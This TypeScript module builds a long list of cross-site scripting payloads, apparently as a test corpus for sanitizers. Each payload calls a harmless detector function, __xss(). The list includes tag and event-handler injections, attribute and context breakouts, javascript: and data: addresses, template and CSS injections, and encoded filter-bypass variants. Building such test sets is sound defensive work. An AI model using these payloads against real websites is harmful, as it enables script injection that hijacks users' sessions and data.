/**
 * The call that every payload tries to run. A tested page defines this function and so detects a text that
 * was executed.
 */
const CALL = '__xss()';

/** The same call, encoded for contexts that forbid some characters. */
const entities = (text: string, write: (code: number) => string): string =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
const DECIMAL = entities(CALL, (code) => `&#${code};`);
const HEX = entities(CALL, (code) => `&#x${code.toString(16)}`);
const PADDED = entities(CALL, (code) => `&#${String(code).padStart(7, '0')}`);
const ESCAPED = entities('__xss', (code) => `\\u00${code.toString(16)}`);
const BRACED = entities('__xss', (code) => `\\u{${code.toString(16)}}`);
const PERCENT = entities(CALL, (code) => `%${code.toString(16)}`);

const SCRIPT = `<script>${CALL}</script>`;
const IMAGE = `<img src=x onerror=${CALL}>`;

/** Elements that run their handler without a click. */
const elements = [
  SCRIPT,
  IMAGE,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`,
  `<SCRIPT\n>${CALL}</SCRIPT\n>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"`,
  `<img src onerror=${CALL}//`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src=x:x onerror\n=${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"></script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${CALL} attributeName=x></svg>`,
  `<svg><image href=x onerror=${CALL}></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<math><mtext></p><img src=x onerror=${CALL}></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<body onload=${CALL}>`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data=x onerror=${CALL}></object>`,
  `<embed src=x onload=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<input autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<a href=# autofocus tabindex=1 onfocus=${CALL}>x</a>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CALL}></b>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><s></template><img src=x onerror=${CALL}>`,
  `<x-robot onclick=${CALL} style=position:fixed;inset:0>x</x-robot>`,
];

/** The event handler attributes. */
const EVENTS = `abort animationend auxclick beforeinput beforetoggle blur canplay change click
  contextmenu copy cut dblclick drag dragenter drop error focusin hashchange input
  invalid keydown keyup load loadstart message mousedown mouseenter mousemove mouseover
  pagehide pageshow paste pointerenter pointerover popstate reset resize scroll select
  submit touchstart transitionend unhandledrejection wheel`;
const handlers = EVENTS.split(/\s+/).map((event) => `<p tabindex=0 on${event}=${CALL}>x</p>`);

/** Endings for the context into which a text may be inserted, each followed by code to run outside of it. */
const QUOTES = ['"', "'", '`'];
const EXITS = `"> '> /> --> --!> ]]> */ </p> </title> </textarea> </style> </script> </noscript> </template>
  </svg> </select> </iframe>`;
const breakouts = [
  ...QUOTES.flatMap((quote) => [
    `${quote} onmouseover=${quote}${CALL}`,
    `${quote};${CALL}//`,
    `${quote}-${CALL}-${quote}`,
    `\\${quote};${CALL}//`,
  ]),
  ...EXITS.split(/\s+/).flatMap((exit) => [exit + SCRIPT, exit + IMAGE]),
];

/** Addresses that browsers execute. */
const schemes = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `javascript\n:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://x%0a${CALL}`,
  `javascript:/*-->*/${CALL}`,
  `javascript:${PERCENT}`,
  `javascript:'${IMAGE}'`,
  `vbscript:${CALL}`,
  `data:text/html,${SCRIPT}`,
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `view-source:javascript:${CALL}`,
  `blob:javascript:${CALL}`,
  `//javascript:${CALL}`,
  `/\\javascript:${CALL}`,
  `feed:javascript:${CALL}`,
];
const carriers: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
];
const addresses = schemes.flatMap((scheme) => carriers.map((carry) => carry(scheme)));

/** Templates, style sheets, markdown and data that some programs evaluate. */
const evaluated = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `{{_self.env.x('${CALL}')}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `[[\${${CALL}}]]`,
  `{%raw%}${SCRIPT}{%endraw%}`,
  `@(${CALL})`,
  `{{{${SCRIPT}}}}`,
  `*{${CALL}}`,
  `{php}${CALL}{/php}`,
  `<p style="background:url(javascript:${CALL})">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `</style>${IMAGE}<style>`,
  `red;}</style>${SCRIPT}`,
  `url(javascript:${CALL})`,
  `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `<javascript:${CALL}>`,
  `[x]: javascript:${CALL}`,
  `{"__proto__":{"onerror":"${CALL}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"${IMAGE}"}}`,
  `__proto__[innerHTML]=${IMAGE}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${CALL}"}}`,
];

/** The call in encoded forms. */
const encoded = [
  `<img src=x onerror=${DECIMAL}>`,
  `<img src=x onerror=${HEX}>`,
  `<img src=x onerror=${PADDED}>`,
  `<a href="javascript:${DECIMAL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="java&Tab;script:${CALL}">x</a>`,
  `<a href="javascript&colon;${CALL}">x</a>`,
  `<script>${ESCAPED}()</script>`,
  `<script>${BRACED}()</script>`,
  `<img src=x onerror=window["\\x5f_xss"]()>`,
  `<img src=x onerror=top['__x'+'ss']()>`,
  `<img src=x onerror=self['__xss']\`\`>`,
  `<img src=x onerror=eval(atob('X194c3MoKQ=='))>`,
  `<script>Function('${ESCAPED}()')()</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `＜script＞${CALL}＜/script＞`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `\u2028${CALL}`,
  `\u2029;${CALL}//`,
  `%22%3E${IMAGE}`,
  `<script>location='javascript:${PERCENT}'</script>`,
];

/** Texts that run `__xss()` if a program treats them as markup, an address, a template or code. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...elements,
  ...handlers,
  ...breakouts,
  ...addresses,
  ...evaluated,
  ...encoded,
];
